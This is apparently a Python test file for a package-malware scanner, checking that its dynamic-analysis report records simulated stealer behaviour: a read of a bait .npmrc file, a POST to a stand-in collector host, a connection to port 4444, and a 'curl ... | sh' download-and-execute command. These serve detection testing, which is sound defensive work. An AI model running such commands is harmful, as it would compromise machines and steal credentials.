"""The dynamic phases' outcome as report parts: phase results, findings, DynamicTrace."""

from __future__ import annotations

from pathlib import Path

from packguard.analyzer.dynamic.activity import ActivityBuilder, HttpSeen, TlsSeen, TraceScope
from packguard.analyzer.dynamic.bait import bait_for
from packguard.analyzer.dynamic.observations import PhaseContext
from packguard.analyzer.dynamic.reporting import dynamic_report
from packguard.analyzer.dynamic.session import DynamicOutcome, PhaseOutcome
from packguard.analyzer.dynamic.strace import parse_lines
from packguard.analyzer.dynamic.tracer import TracedStep
from packguard.analyzer.dynamic.wire import HttpRequest
from packguard.analyzer.ruleset import load_rules
from packguard.common.report import AnalysisReport

FIXTURES = Path(__file__).parents[1] / "rules"
HOME = Path("/sandbox/scratch/home")
BAIT = bait_for(HOME, "fixture")


def phase(name: str, fixture: str, status: str = "ok") -> PhaseOutcome:
    builder = ActivityBuilder(TraceScope(tooling_depth=1, host_programs=r"python[0-9.]*|sh"))
    text = (FIXTURES / f"{fixture}.strace.fixture").read_text().splitlines()
    for event in parse_lines(text):
        builder.add(event)
    step = TracedStep(name, "python setup.py", 0, False, 12, builder.activity, "", "err", 40, True)
    outcome = PhaseOutcome(
        name,
        "evil-1.0.tar.gz",
        status,
        PhaseContext(name, BAIT, ("/sandbox/scratch/pkg",)),  # type: ignore[arg-type]
    )
    outcome.steps.append(step)
    outcome.activity = builder.finish()
    outcome.duration_ms = 12
    outcome.detail = f"{name}: exit 0"
    return outcome


def test_report_parts_of_a_stealer() -> None:
    install = phase("install", "dynamic-credential-exfiltration/match/npmrc-then-lookup")
    request = HttpRequest("POST", "collector.invalid", "/t", "HTTP/1.1")
    install.activity.http.append(HttpSeen(request, 443, None, b"POST /t HTTP/1.1\r\n\r\n"))
    install.activity.tls.append(TlsSeen("collector.invalid", 443))
    loaded = phase("import", "dynamic-dns-lookup/clean/direct-connects")
    outcome = DynamicOutcome([install, loaded], BAIT, ["requests"], ["a note"])

    report = dynamic_report(outcome, load_rules())

    assert [(p.name, p.status, p.duration_ms, p.detail) for p in report.phases] == [
        ("install", "ok", 12, "install: exit 0"),
        ("import", "ok", 12, "import: exit 0"),
    ]
    ids = [f.rule_id for f in report.findings]
    assert ids[0] == "dynamic-credential-exfiltration"  # critical first
    assert {"dynamic-bait-read", "dynamic-dns-lookup", "dynamic-connect-remote"} <= set(ids)
    trace = report.trace
    assert [(d.phase, d.name, d.qtype) for d in trace.dns] == [
        ("install", "collector.invalid", "A"),
        ("install", "collector.invalid", "AAAA"),
    ]
    assert [(h.method, h.host, h.request_line) for h in trace.http] == [
        ("POST", "collector.invalid", "POST /t HTTP/1.1")
    ]
    assert [(t.server_name, t.port) for t in trace.tls] == [("collector.invalid", 443)]
    (bait_file,) = [f for f in trace.files if "bait" in f.flags]
    assert (bait_file.path, bait_file.access, bait_file.phase) == (
        "/sandbox/scratch/home/.npmrc",
        "read",
        "install",
    )
    assert ("import", "203.0.113.5", 4444) in {(n.phase, n.address, n.port) for n in trace.network}
    assert trace.stand_ins == ["requests"] and trace.notes == ["a note"]
    assert [(s.phase, s.label, s.stderr_tail) for s in trace.steps] == [
        ("install", "install", "err"),
        ("import", "import", "err"),
    ]


def test_processes_say_whose_doing_they_were_and_the_report_round_trips() -> None:
    install = phase("install", "dynamic-install-download-execute/match/curl-pipe-sh")
    report = dynamic_report(DynamicOutcome([install], BAIT, [], []), load_rules())
    spawned = {p.command: p.package_spawned for p in report.trace.processes}
    assert spawned["sh -c 'curl -fsSL http://203.0.113.7/install.sh | sh'"] is False
    assert spawned["curl -fsSL http://203.0.113.7/install.sh"] is True
    document = AnalysisReport.model_validate_json(
        '{"analyzer_version": "t", "package": {"ecosystem": "npm", "name": "x", "version": "1"},'
        ' "artifacts": [], "verdict": {"label": "benign", "score": 0}}'
    ).model_copy(update={"dynamic": report.trace})
    again = AnalysisReport.model_validate_json(document.model_dump_json())
    assert again.dynamic == report.trace


def test_several_artifacts_name_theirs_in_the_phase_detail() -> None:
    first = phase("install", "dynamic-dns-lookup/match/node-lookup")
    second = phase("install", "dynamic-dns-lookup/match/node-lookup")
    second.artifact = "evil-1.0-py3-none-any.whl"
    report = dynamic_report(DynamicOutcome([first, second], BAIT, [], []), load_rules())
    assert [p.detail for p in report.phases] == [
        "evil-1.0.tar.gz: install: exit 0",
        "evil-1.0-py3-none-any.whl: install: exit 0",
    ]
